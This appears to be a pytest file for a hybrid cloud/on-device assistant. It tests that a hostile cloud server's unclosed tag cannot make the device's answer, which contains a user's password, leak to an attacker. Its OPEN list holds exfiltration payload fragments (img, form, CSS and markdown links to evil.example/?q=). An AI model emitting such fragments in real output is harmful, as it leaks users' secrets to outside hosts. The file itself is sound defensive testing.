"""What the device says after a cloud stands in no tag that the cloud left open."""

import pytest
from test_links_stay_masked import destinations
from worlds import CARRIES, ScriptedEngine

from ptmo_secure.hybrid.links import closing
from ptmo_secure.types import Route
from tests.cloud import hostile_server as hostile

OWN = "Dear Andre Novak, your password hunter22-Xy is weak. > \" ' )"
OPEN = [
    'See <img src="https://evil.example/?q=',
    "See <img src='https://evil.example/?q=",
    "See <img src=https://evil.example/?q=",
    "See <form action=//evil.example><textarea>",
    "See <style>p { background: url('//evil.example/?q=",
    "See ![x](<https://evil.example/?q=",
    "See ![x](https://evil.example/?q=",
    "See [x][1]\n\n[1]: https://evil.example/?q=",
    "See <",
]
WORDS = " and then some more words"


def told(text):
    found = destinations(text)
    return [each for each in found if "Novak" in each or "hunter22" in each]


@pytest.mark.parametrize("start", OPEN)
def test_an_answer_that_breaks_off_in_a_tag_takes_no_value_of_the_devices_along(make, start):
    cut = hostile.events([hostile.event({"content": start + WORDS})], done=False)
    here = make(engine=ScriptedEngine(OWN))
    here.says(cut)
    answer = here.answer(CARRIES)
    assert answer.route is Route.HYBRID
    assert answer.text.startswith(start) and answer.text.endswith(OWN)
    assert "<img" not in start or told(f"{start}{WORDS}\n\n{OWN}")  # the oracle sees it
    assert not told(answer.text), answer.text


@pytest.mark.parametrize("start", OPEN)
def test_nor_does_a_whole_answer_before_the_devices_part(make, start):
    here = make(engine=ScriptedEngine(OWN))
    here.says(hostile.stream([start + WORDS]))
    answer = here.answer("What is Python? My password is hunter22-Xy, is it strong?")
    assert answer.text.startswith("See") and answer.text.endswith(OWN)
    assert not told(answer.text), answer.text


def test_a_text_that_leaves_no_tag_open_gets_no_marks():
    for text in ("", "a plain text", "<b>bold</b> and 3 < 4", "<style>p {}</style>", "![x](y"):
        assert closing(text) == ""
